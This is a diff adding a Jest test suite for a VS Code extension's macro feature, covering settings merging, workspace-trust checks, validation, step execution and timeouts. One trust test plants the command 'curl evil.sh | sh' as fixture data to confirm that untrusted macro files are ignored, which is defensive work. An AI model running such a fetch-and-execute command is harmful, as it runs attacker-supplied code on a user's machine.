@@ -0,0 +1,134 @@
+/**
+ * Macro Tests
+ */
+import * as fs from 'fs';
+import * as os from 'os';
+import * as path from 'path';
+
+describe('Macros', () => {
+  let vscode: any;
+  let macros: any;
+  let backend: any;
+  let workspacePath: string;
+  const workspaceFolders = () => vscode.workspace.workspaceFolders;
+  let originalFolders: any;
+
+  const settings = (values: Record<string, unknown>) => {
+    vscode.workspace.getConfiguration.mockReturnValue({
+      get: jest.fn((key: string, defaultValue: unknown) => (key === 'macros' ? values : defaultValue))
+    });
+  };
+
+  const writeMacrosFile = (contents: unknown) => {
+    fs.mkdirSync(path.join(workspacePath, '.aircodum'), { recursive: true });
+    fs.writeFileSync(path.join(workspacePath, '.aircodum', 'macros.json'), JSON.stringify(contents));
+  };
+
+  beforeEach(() => {
+    jest.resetModules();
+    vscode = require('vscode');
+    vscode.commands.executeCommand.mockReset();
+    const input = require('../../src/input/backend');
+    const { FakeInputBackend } = require('../../src/input/fake');
+    backend = new FakeInputBackend();
+    input.setInputBackend(backend);
+    macros = require('../../src/commanding/macros');
+
+    workspacePath = fs.mkdtempSync(path.join(os.tmpdir(), 'aircodum-macros-'));
+    originalFolders = workspaceFolders();
+    vscode.workspace.workspaceFolders = [{ uri: { fsPath: workspacePath }, name: 'test', index: 0 }];
+    settings({});
+  });
+
+  afterEach(() => {
+    vscode.workspace.workspaceFolders = originalFolders;
+    vscode.workspace.getConfiguration.mockReset();
+    vscode.workspace.getConfiguration.mockImplementation(() => ({
+      get: jest.fn((key: string, defaultValue: unknown) => defaultValue)
+    }));
+    fs.rmSync(workspacePath, { recursive: true, force: true });
+  });
+
+  it('should merge settings and the workspace file, the file taking precedence', () => {
+    settings({
+      'Test Cycle': [{ command: 'Save all files' }],
+      'Format': [{ command: 'Format Document' }]
+    });
+    writeMacrosFile({ 'test cycle': [{ command: 'Save all files' }, { waitFor: 'tasks-idle', timeout: 5000 }] });
+
+    const names = macros.getMacros().map((macro: any) => macro.name);
+
+    expect(names).toEqual(['test cycle', 'Format']);
+    expect(macros.findMacro('TEST CYCLE').steps).toHaveLength(2);
+    expect(macros.findMacro('test')).toBeUndefined();
+  });
+
+  it('should ignore macros files until the workspace is trusted', () => {
+    writeMacrosFile({ deploy: [{ text: 'curl evil.sh | sh' }, { action: 'enter' }] });
+    vscode.workspace.isTrusted = false;
+    try {
+      expect(macros.findMacro('deploy')).toBeUndefined();
+    } finally {
+      vscode.workspace.isTrusted = true;
+    }
+  });
+
+  it('should keep parsed macros until their sources change', () => {
+    const context = { subscriptions: [] as any[] };
+    macros.watchMacros(context);
+    settings({ format: [{ command: 'Format Document' }] });
+    expect(macros.findMacro('format')).toBeDefined();
+
+    settings({});
+    expect(macros.findMacro('format')).toBeDefined();
+
+    const onChange = vscode.workspace.onDidChangeConfiguration.mock.calls.at(-1)[0];
+    onChange({ affectsConfiguration: (section: string) => section === 'aircodum.macros' });
+    expect(macros.findMacro('format')).toBeUndefined();
+  });
+
+  it('should skip macros with invalid steps', () => {
+    settings({
+      broken: [{ command: 'Save all files', text: 'both' }],
+      waiting: [{ waitFor: 'forever' }],
+      fine: [{ action: 'enter' }, { text: 'hello' }, { delay: 10 }]
+    });
+
+    expect(macros.getMacros().map((macro: any) => macro.name)).toEqual(['fine']);
+  });
+
+  it('should run every kind of step in order', async () => {
+    await macros.runMacro({
+      name: 'all',
+      steps: [{ command: 'Save all files' }, { text: 'hi' }, { delay: 1 }, { action: 'enter' }, { waitFor: 'editor-open' }]
+    });
+
+    expect(vscode.commands.executeCommand).toHaveBeenCalledWith('saveAll');
+    expect(backend.calls.map((call: any) => [call.method, ...call.args])).toEqual([
+      ['typeString', 'hi'],
+      ['keyTap', 'enter']
+    ]);
+  });
+
+  it('should stop at the first failing step and say which', async () => {
+    const run = macros.runMacro({
+      name: 'cycle',
+      steps: [{ command: 'Save all files' }, { action: 'toString' }, { text: 'never typed' }]
+    });
+
+    await expect(run).rejects.toThrow(macros.MacroError);
+    await expect(run).rejects.toThrow('Macro "cycle" stopped at step 2: Unknown action: toString');
+    expect(backend.calls).toEqual([]);
+  });
+
+  it('should give up waiting after the timeout', async () => {
+    vscode.tasks.taskExecutions = [{ task: { name: 'test' } }];
+    try {
+      await expect(
+        macros.runMacro({ name: 'tests', steps: [{ waitFor: 'tasks-idle', timeout: 300 }] })
+      ).rejects.toThrow('stopped at step 1: Timed out after 300 ms waiting for running tasks to finish');
+    } finally {
+      vscode.tasks.taskExecutions = [];
+    }
+  });
+});